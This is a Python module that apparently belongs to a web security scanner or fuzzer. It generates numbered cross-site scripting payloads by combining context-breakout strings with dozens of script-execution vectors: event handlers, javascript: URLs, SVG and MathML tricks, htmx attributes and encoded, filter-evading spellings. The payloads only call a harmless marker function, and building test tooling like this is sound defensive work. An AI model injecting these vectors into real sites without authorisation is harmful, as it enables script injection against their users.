"""Texts that run a script wherever a page forgets to escape: a generator of our own.

Each holds its own number, so that what ran can be told: `ran(17)`.  They are made of ways out of a
place (text, attribute, script, comment, address) and of ways to run (a tag, a handler, an address,
an attribute of htmx), written in the spellings that filters miss.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count, product
from random import Random

# Out of where the text stands: nothing, an attribute, an element, a comment, a script, CDATA.
WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    ">",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</button>",
    "]]>",
    "\\\"'>",
    "%22%3E",
    "{{",
    "{%",
    "*/",
    "`",
)
# What runs, once it stands as markup. RUN becomes ran(17).
WAYS_TO_RUN = (
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT >",
    "<script/x>RUN</script\n>",
    "<script src=data:,RUN></script>",
    "<script type=module>RUN</script>",
    "<img src=x onerror=RUN>",
    '<img src="x" oNeRrOr="RUN">',
    "<img/src=x/onerror=RUN>",
    "<img src=x onerror\n=RUN//",
    "<image src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
    "<math><mtext><style><img src=x onerror=RUN></style></mtext></math>",
    "<body onload=RUN>",
    "<iframe src=javascript:RUN></iframe>",
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<a href=javascript:RUN>x</a>",
    '<a href="java\tscript:RUN">x</a>',
    '<a href="&#106;avascript:RUN">x</a>',
    "<form action=javascript:RUN><button>x</button></form>",
    "<button formaction=javascript:RUN>x</button>",
    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    "<base href=javascript:RUN//>",
    "<link rel=stylesheet href=data:,x onload=RUN>",
    "<style onload=RUN>x</style>",
    "<template><script>RUN</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "<x onclick=RUN tabindex=1 autofocus onfocus=RUN>",
    "<p style=animation-name:x onanimationstart=RUN>",
    '<div hx-get=/ hx-trigger=load hx-on:htmx:before:request="RUN">',
    '<div data-hx-on:click="RUN" data-hx-get=/>x</div>',
    "<div hx-on::load=RUN hx-trigger=load hx-get=/>",
    '<div hx-vals="js:{x:RUN}" hx-get=/ hx-trigger=load>',
    " onmouseover=RUN autofocus onfocus=RUN x=",
    " hx-get=/ hx-trigger=load hx-vals=js:RUN x=",
    "javascript:RUN",
    " JaVaScRiPt:RUN",
    "javascript://%0aRUN",
    "data:text/html,<script>RUN</script>",
    "${RUN}",
    "';RUN;'",
    '";RUN;"',
    "\\u003cimg src=x onerror=RUN\\u003e",
    "&lt;img src=x onerror=RUN&gt;",
    "%3Cimg src=x onerror=RUN%3E",
    "\uff1cimg src=x onerror=RUN\uff1e",
    "{{ ''.__class__.__mro__ }}<img src=x onerror=RUN>",
    "{% raw %}<img src=x onerror=RUN>",
    "[x](javascript:RUN)",
    '![x](x"onerror="RUN)',
    "<<script>RUN//<</script>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<?xml version='1.0'?><img src=x onerror=RUN>",
)
SPELLINGS = (
    "ran({})",
    "window['ran']({})",
    "ran.call(0,{})",
    "ran`{}`",
    "(0,ran)({})",
    "top.ran({})",
)


def payloads(seed: int) -> Iterator[str]:
    """Hostile texts without end, each with its number; every way out and in before one repeats."""
    chance = Random(seed)
    number = count(1)
    while True:
        ways = list(product(WAYS_OUT, WAYS_TO_RUN))
        chance.shuffle(ways)
        for out, way in ways:
            run = chance.choice(SPELLINGS).format(next(number))
            yield out + way.replace("RUN", run)


class Words:
    """What is typed into the fields: each field the next texts, as many as it takes."""

    def __init__(self, seed: int, at_most: int) -> None:
        self.made = payloads(seed)
        self.at_most = at_most
        self.batch: list[str] = []

    def turn(self) -> int:
        """From now on the next texts are typed; how many they are."""
        self.batch = [next(self.made) for _ in range(self.at_most)]
        return len(self.batch)

    def text(self, longest: int = 4_500) -> str:
        """All texts of this turn that fit, one on each line."""
        said, room = [], longest
        for one in self.batch:
            if len(one) + 1 <= room:
                said.append(one)
                room -= len(one) + 1
        return "\n".join(said)

    def line(self) -> str:
        """The same on one line, as a name is."""
        return " ".join(self.batch)

    def each(self) -> list[str]:
        """Each text by itself."""
        return list(self.batch)
